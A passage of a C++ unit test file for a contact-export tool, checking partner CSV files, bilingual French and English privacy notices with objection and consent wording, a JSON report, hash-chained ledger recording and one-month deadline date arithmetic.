  EXPECT_TRUE(fs::exists(w.path("out/partner-acme.csv")));
  // An empty existing directory is fine without --force.
  fs::create_directory(w.path("empty"));
  EXPECT_TRUE(w.run(contacts, "empty").ok());
}

TEST(Export, NoticesReportAndLedgerRecord) {
  World w;
  const std::string p1 = w.issue(mixed_person());
  exporter::ExportOptions options;
  options.at = "2027-01-31T09:00:00Z";
  auto outcome = w.run(w.write_contacts("c.csv", {kHeader, mixed_row(p1)}), "out", options);
  ASSERT_TRUE(outcome.ok());
  const Json& report = outcome.value().report;
  EXPECT_EQ(report["noticeDeadline"], "2027-02-28");
  for (const std::string id : {"acme", "beta", "gamma"}) {
    const std::string fr = read_text(w.path("out/partner-notice-" + id + ".fr.txt"));
    const std::string en = read_text(w.path("out/partner-notice-" + id + ".en.txt"));
    for (const std::string* text : {&fr, &en}) {
      EXPECT_NE(text->find("Société X"), std::string::npos);
      EXPECT_NE(text->find("dpo@x.example"), std::string::npos);
      EXPECT_NE(text->find("2027-02-28"), std::string::npos);
      EXPECT_NE(text->find("2027-01-31"), std::string::npos);
      EXPECT_NE(text->find("https://x.example/confidentialite"), std::string::npos);
    }
    EXPECT_NE(fr.find("vous opposer"), std::string::npos);
    EXPECT_NE(en.find("object at any time"), std::string::npos);
    // The text the person reads gives the date as people write it.
    EXPECT_NE(fr.find("transmises par Société X le 31 janvier 2027,"), std::string::npos) << fr;
    EXPECT_NE(en.find("passed on to us by Société X on 31 January 2027,"), std::string::npos) << en;
    EXPECT_EQ(partner_report(report, id)["notice"]["fr"], fr);
  }
  // beta gets postal and phone only: its notice speaks of objection, not of withdrawing consent.
  const std::string beta = read_text(w.path("out/partner-notice-beta.en.txt"));
  EXPECT_EQ(beta.find("withdraw at any time"), std::string::npos);
  EXPECT_NE(read_text(w.path("out/partner-notice-acme.en.txt")).find("withdraw at any time"), std::string::npos);
  EXPECT_NE(read_text(w.path("out/partner-notice-acme.fr.txt")).find("retirer"), std::string::npos);

  const Json on_disk = Json::parse(read_text(w.path("out/report.json")));
  EXPECT_EQ(on_disk, report);
  EXPECT_EQ(read_text(w.path("out/report.txt")), outcome.value().summary);
  EXPECT_NE(outcome.value().summary.find("Partner acme"), std::string::npos);
  // The export is an entry of the ledger's hash chain, and the chain still verifies.
  EXPECT_TRUE(outcome.value().ledger_recorded);
  EXPECT_EQ(report["ledger"]["recorded"], true);
  EXPECT_TRUE(report["ledger"]["seq"].is_number_integer());
  Result<ledger::ChainReport> chain = w.store->verify_chain();
  ASSERT_TRUE(chain.ok());
  EXPECT_TRUE(chain.value().ok());
  // Partner files hash as reported (the ledger entry names these hashes).
  const std::string acme = read_text(w.path("out/partner-acme.csv"));
  EXPECT_EQ(partner_report(report, "acme")["sha256"], hex_encode(w.crypto->sha256(acme)));
}

TEST(Export, Dates) {
  EXPECT_EQ(exporter::one_month_after("2026-01-31"), "2026-02-28");
  EXPECT_EQ(exporter::one_month_after("2028-01-31T23:59:59Z"), "2028-02-29");
  EXPECT_EQ(exporter::one_month_after("2026-12-15T10:00:00Z"), "2027-01-15");
  EXPECT_EQ(exporter::one_month_after("2026-02-30"), "");
  EXPECT_FALSE(exporter::parse_time("2026-11-30T10:00:00+01:00"));
  EXPECT_EQ(exporter::format_time(*exporter::parse_time("2026-11-30T10:00:00.123Z")), "2026-11-30T10:00:00Z");
}

}  // namespace
}  // namespace cachet::export_test
